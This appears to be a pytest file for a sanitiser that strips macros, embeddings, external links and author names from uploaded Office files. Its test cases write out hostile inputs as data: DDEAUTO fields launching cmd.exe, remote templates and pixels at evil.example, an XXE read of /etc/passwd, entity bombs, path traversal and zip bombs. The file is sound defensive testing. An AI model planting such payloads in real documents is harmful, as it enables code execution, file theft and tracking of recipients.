"""Word, Excel and PowerPoint files that are sent: words and tables stay, what acts or calls out does not come in."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.chart import BarChart, Reference
from openpyxl.drawing.image import Image as Drawing
from PIL import Image

from madoguchi.foundation.uploads import UploadRefused, read_attachment
from madoguchi.foundation.uploads.office import clean_office

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
PARTS = {
    "[Content_Types].xml": (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{R}/officeDocument" Target="word/document.xml"/></Relationships>'
    ),
    "word/document.xml": f"<w:document {W}><w:body><w:p><w:r><w:t>起案の別紙</w:t></w:r></w:p></w:body></w:document>",
    "docProps/core.xml": (
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>別紙</dc:title><dc:creator>書手　太郎</dc:creator>'
        "<cp:lastModifiedBy>直手　花子</cp:lastModifiedBy></cp:coreProperties>"
    ),
}


def package(changes: Mapping[str, str | bytes | None] = {}) -> bytes:
    """A Word file with one paragraph, changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in {**PARTS, **changes}.items():
            if content is not None:
                made.writestr(name, content)
    return out.getvalue()


def cleaned(content: bytes) -> dict[str, str]:
    """Name of a part → its text, as it is kept."""
    with zipfile.ZipFile(io.BytesIO(clean_office(io.BytesIO(content)).content)) as kept:
        return {name: kept.read(name).decode("utf-8", "replace") for name in kept.namelist()}


def relations(kind: str, target: str) -> str:
    """What the document is related to, outside of itself."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{R}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def inner(kind: str, target: str) -> str:
    """What the document is related to, within itself as it says."""
    return relations(kind, target).replace(' TargetMode="External"', "")


def typed(content_type: str) -> str:
    """The list of types, with one part more."""
    more = f'<Override PartName="/word/harmless.xml" ContentType="{content_type}"/></Types>'
    return PARTS["[Content_Types].xml"].replace("</Types>", more)


def field(*codes: str) -> str:
    """A paragraph with a field whose code lies in several runs; "(" and ")" begin and end a field."""
    runs = {"(": '<w:fldChar w:fldCharType="begin"/>', ")": '<w:fldChar w:fldCharType="end"/>'}
    inner = "".join(f"<w:r>{runs.get(code) or f'<w:instrText>{code}</w:instrText>'}</w:r>" for code in codes)
    return f"<w:document {W}><w:body><w:p>{inner}</w:p></w:body></w:document>"


def workbook() -> bytes:
    """A book with a table, a formula, a chart, a picture and a link."""
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (("月", "件数"), ("4月", 12), ("5月", 30)):
        sheet.append(row)
    sheet["B4"] = "=SUM(B2:B3)"
    sheet["A5"].hyperlink = "https://www.example.jp/plan"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    picture = io.BytesIO()
    Image.new("RGB", (8, 8), "navy").save(picture, "PNG")
    sheet.add_image(Drawing(picture), "D20")
    book.properties.creator = "書手　太郎"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_book_comes_through_whole_and_without_its_author() -> None:
    sent = workbook()
    kept = read_attachment("月報.XLSX", io.BytesIO(sent))
    assert (kept.name, kept.content_type.endswith("spreadsheetml.sheet")) == ("月報.xlsx", True)
    book = openpyxl.load_workbook(io.BytesIO(kept.content))
    sheet = book.active
    assert [cell.value for cell in sheet["B"]][:4] == ["件数", 12, 30, "=SUM(B2:B3)"]
    assert sheet["A5"].hyperlink.target == "https://www.example.jp/plan"
    assert (len(sheet._charts), len(sheet._images), book.properties.creator) == (1, 1, None)
    assert read_attachment("月報.xlsx", io.BytesIO(sent)).content == kept.content, "the same file, the same bytes"
    assert read_attachment("月報.xlsx", io.BytesIO(kept.content)).content == kept.content


def test_a_letter_keeps_its_words_and_forgets_who_wrote_it() -> None:
    parts = cleaned(package())
    assert "起案の別紙" in parts["word/document.xml"] and "別紙" in parts["docProps/core.xml"]
    assert "書手" not in parts["docProps/core.xml"] and "直手" not in parts["docProps/core.xml"]
    assert next(iter(parts)) == "[Content_Types].xml"


def test_links_lead_to_the_web_or_nowhere_and_no_template_is_fetched() -> None:
    rels = "word/_rels/document.xml.rels"
    assert (
        "https://www.example.jp/" in cleaned(package({rels: relations("hyperlink", "https://www.example.jp/")}))[rels]
    )
    for away in ("file://server/share", "\\\\server\\share", "ms-msdt:/id", "javascript:alert(1)", "search-ms:query=x"):
        assert away not in cleaned(package({rels: relations("hyperlink", away)}))[rels]
    template = {
        "word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.example/t.dotm"),
        "word/settings.xml": f'<w:settings {W} xmlns:r="{R}"><w:attachedTemplate r:id="r9"/><w:zoom/></w:settings>',
    }
    parts = cleaned(package(template))
    assert "evil" not in "".join(parts.values()) and "attachedTemplate" not in "".join(parts.values())
    assert "zoom" in parts["word/settings.xml"]


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"word/vbaProject.bin": b"x"}, "マクロ"),
        ({"[Content_Types].xml": PARTS["[Content_Types].xml"].replace(".main+", ".macroEnabled.main+")}, "マクロ"),
        ({"word/activeX/activeX1.xml": "<a/>"}, "マクロ"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, "埋め込まれて"),
        ({"word/afchunk.mht": b"<html>"}, "埋め込まれて"),
        ({"word/media/image1.png": b"MZ\x90"}, "埋め込まれて"),
        ({"word/evil.exe": b"MZ\x90"}, "埋め込まれて"),
        ({"_xmlsignatures/sig1.xml": "<a/>"}, "署名"),
        ({"xl/externalLinks/externalLink1.xml": "<a/>"}, "つながって"),
        ({"xl/connections.xml": "<a/>"}, "つながって"),
        ({"word/_rels/document.xml.rels": relations("image", "https://evil.example/pixel.png")}, "つながって"),
        ({"word/_rels/document.xml.rels": relations("oleObject", "file://server/a.xls")}, "つながって"),
        ({"word/document.xml": field("(", "DD", "EAUTO c:\\\\cmd.exe", ")")}, "つながって"),
        ({"word/header1.xml": field("(", " include", 'picture "http://evil.example/x" ', ")")}, "つながって"),
        ({"word/document.xml": field("(", "(", "QUOTE 68 68 69", ")", " c:\\\\cmd.exe", ")")}, "つながって"),
        ({"word/document.xml": f'<w:p {W}><w:fldSimple w:instr=" DDE x"/></w:p>'}, "つながって"),
        ({"word/document.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}, "読み取れません"),
        ({"word/document.xml": '<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><a>&c;</a>'}, "読み取れません"),
        ({"word/document.xml": "<w:p>"}, "読み取れません"),
        ({"../outside.xml": "<a/>"}, "読み取れません"),
        ({"WORD/document.xml": "<a/>"}, "読み取れません"),
        ({"[Content_Types].xml": None}, "まとめたファイル"),
        ({"[Content_Types].xml": "<Types/>"}, "受け取れない種類"),
    ],
)  # fmt: skip
def test_what_acts_or_calls_out_is_refused_in_words(changes: dict[str, str | bytes | None], words: str) -> None:
    with pytest.raises(UploadRefused, match=words):
        clean_office(io.BytesIO(package(changes)))


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"x/document.xml": field("(", "DDEAUTO c:\\\\cmd.exe", ")")}, "つながって"),
        ({"word/_rels/document.xml.RELS": relations("image", "https://evil.example/pixel.png")}, "つながって"),
        ({"word/_rels/document.xml.rels": inner("externalLink", "harmless.xml")}, "つながって"),
        ({"word/_rels/document.xml.rels": inner("connections", "harmless.xml")}, "つながって"),
        ({"word/_rels/document.xml.rels": inner("image", "https://evil.example/pixel.png")}, "つながって"),
        ({"word/_rels/document.xml.rels": inner("image", "\\\\server\\pixel.png")}, "つながって"),
        ({"word/_rels/document.xml.rels": inner("control", "harmless.xml")}, "マクロ"),
        ({"[Content_Types].xml": typed("application/vnd.ms-excel.macrosheet+xml")}, "マクロ"),
        ({"[Content_Types].xml": typed(f"{SHEETS}.externalLink+xml")}, "つながって"),
    ],
)  # fmt: skip
def test_another_name_hides_nothing(changes: dict[str, str | bytes | None], words: str) -> None:
    """Parts may be called anything, in letters of any case; what they are, their types and relations say."""
    with pytest.raises(UploadRefused, match=words):
        clean_office(io.BytesIO(package(changes)))


def test_many_books_within_share_what_one_may_unfold_to() -> None:
    wide = package({"word/media/image1.bmp": b"BM" + bytes(30 * 1024 * 1024)})
    clean_office(io.BytesIO(package({"word/embeddings/1.docx": wide})))
    with pytest.raises(UploadRefused, match="大きすぎます"):
        clean_office(io.BytesIO(package({f"word/embeddings/{number}.docx": wide for number in range(4)})))


def test_fields_and_addresses_of_every_day_are_taken() -> None:
    everyday = field("(", ' HYPERLINK "https://www.example.jp/import/dde" ', ")", "(", "PAGE", ")", "(", "TOC \\h", ")")
    assert "PAGE" in cleaned(package({"word/document.xml": everyday}))["word/document.xml"]


def test_the_numbers_of_a_chart_are_a_book_within_and_written_anew_too() -> None:
    name = "word/embeddings/Microsoft_Excel_Sheet1.xlsx"
    assert name in cleaned(package({name: workbook()}))
    assert "書手".encode() not in clean_office(io.BytesIO(package({name: workbook()}))).content
    with pytest.raises(UploadRefused, match="マクロ"):
        clean_office(io.BytesIO(package({name: package({"word/vbaProject.bin": b"x"})})))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "古い形式"),
        (b"PK\x03\x04 broken", "読み取れません"),
        (b"words", "ありません"),
    ],
)
def test_what_is_no_package_is_refused_in_words(content: bytes, words: str) -> None:
    with pytest.raises(UploadRefused, match=words):
        clean_office(io.BytesIO(content))


def test_a_package_that_unfolds_beyond_sense_is_refused_unread() -> None:
    with pytest.raises(UploadRefused, match="大きすぎます"):
        clean_office(io.BytesIO(package({"word/styles.xml": b"<a>" + b" " * (101 * 1024 * 1024) + b"</a>"})))
    with pytest.raises(UploadRefused, match="大きすぎます"):
        clean_office(io.BytesIO(package({f"word/n{number}.xml": b"" for number in range(5001)})))


@settings(max_examples=150, deadline=None)
@given(st.integers(0, 10_000), st.binary(min_size=1, max_size=40))
def test_a_broken_file_is_kept_clean_or_refused(place: int, noise: bytes) -> None:
    """Never another error, and never a part that was not looked at."""
    content = package({"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 30})
    at = place % len(content)
    try:
        kept = clean_office(io.BytesIO(content[:at] + noise + content[at + len(noise) :]))
    except UploadRefused:
        return
    assert clean_office(io.BytesIO(kept.content)).content == kept.content
